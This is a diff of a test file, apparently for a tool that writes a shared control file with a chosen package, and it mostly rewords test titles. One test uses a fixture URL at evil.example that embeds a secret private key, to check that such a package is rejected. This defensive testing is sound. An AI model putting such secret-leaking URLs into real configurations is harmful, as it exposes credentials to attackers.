@@ -75,7 +75,7 @@ describe("the shared control file is offered", () => {
     expect(location.writes).toBe(0);
   });
 
-  test("and written for the chosen profile, with the package that is named", async () => {
+  test("and written for the chosen profile, with the package that the operator names", async () => {
     const location = openLocation();
     const { result, marks, asked, questions } = await location.offer(
       { answers: { ...yes, ...package_ } },
@@ -88,7 +88,7 @@ describe("the shared control file is offered", () => {
     for (const question of Object.values(questions)) expect(findWordy(question)).toEqual([]);
   });
 
-  test("not if the file is already correct, regardless of its author", async () => {
+  test("but not if the file is already correct, regardless of its author", async () => {
     const location = openLocation(rendered());
     expect(await location.offer({ answers: yes })).toMatchObject({
       result: "unchanged",
@@ -98,7 +98,7 @@ describe("the shared control file is offered", () => {
     expect(location.writes).toBe(0);
   });
 
-  test("with the lines that change where it is for another profile; the package stays", async () => {
+  test("with the lines to change if it is for another profile; the package stays", async () => {
     const location = openLocation(rendered("workflow-token"));
     const { result, questions, asked } = await location.offer({ answers: yes });
     expect(result).toBe("written");
@@ -119,7 +119,7 @@ describe("the shared control file is offered", () => {
   });
 });
 
-test("a package that runs must not load is ignored: another one is requested, and the file is replaced", async () => {
+test("a package that runs must not load is ignored: another package is requested, and the file is replaced", async () => {
   const evil = "http://evil.example/${{secrets.CP_FORGE_READ_APP_PRIVATE_KEY}}";
   const location = openLocation(rendered().replaceAll(somePin.source, evil));
   const { asked } = await location.offer({ answers: { ...yes, ...package_ } });
@@ -224,7 +224,7 @@ describe("the answer", () => {
     expect(location.writes).toBe(2);
   });
 
-  test("with a yes, and stopped while it is written, is found by a rerun", async () => {
+  test("yes is not requested again if the run stopped while the file was being written", async () => {
     const location = openLocation();
     const journal = startJournal();
     const answers = { ...yes, ...package_ };
